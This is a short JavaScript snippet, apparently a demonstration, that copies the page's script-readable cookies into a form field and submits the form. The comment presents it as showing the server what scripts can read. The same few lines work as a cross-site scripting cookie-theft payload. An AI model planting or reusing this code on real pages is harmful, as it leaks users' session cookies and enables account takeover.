// Tells the server what scripts can read here.
const [form] = document.forms;
form.elements.cookie.value = document.cookie;
form.submit();
